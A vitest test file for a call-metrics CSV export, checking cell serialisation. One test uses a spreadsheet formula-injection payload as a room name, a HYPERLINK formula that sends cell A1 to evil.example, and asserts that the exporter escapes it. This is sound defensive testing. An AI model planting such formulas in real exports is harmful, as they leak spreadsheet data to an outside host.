import { beforeAll, expect, test } from 'vitest';
import type { CallMetrics } from '../../src/metrics/callMetrics.ts';
import { callCsv } from '../../src/report/callCsv.ts';
import { metricsOfCase } from './callMetrics.ts';
import { parsedCsv } from './parsedCsv.ts';

let call: CallMetrics;
beforeAll(async () => {
  call = await metricsOfCase('03-lost-joins');
});

function cellsOf(shown: CallMetrics): Record<string, string> {
  const { head, row } = callCsv();
  const [names, cells, ...more] = parsedCsv(`${head}\r\n${row(shown)}\r\n`);
  expect(more).toEqual([]);
  expect(cells).toHaveLength(names!.length);
  return Object.fromEntries(names!.map((name, i) => [name, cells![i]!]));
}

test('a call is a row: null is empty, zero is 0, lists and objects are JSON', () => {
  const cells = cellsOf(call);
  expect(cells).toMatchObject({
    roomSid: 'RM_c03',
    startedAt: call.startedAt,
    duration: String(call.duration),
    'response.count': '0',
    'agent.joinLatency': '',
    'sip.from': '',
    'agent.expected': 'false',
    usage: '',
  });
  expect(JSON.parse(cells['participants.byKind']!)).toEqual(call.participants.byKind);
});

test('the name of a room breaks neither the row nor the spreadsheet', () => {
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"open, please")\r\n=1';
  const cells = cellsOf({ ...call, roomName: evil });
  expect(cells.roomName).toBe(`'${evil.replace('\n=', "\n'=")}`);
  expect(cells.status).toBe('finished');
});
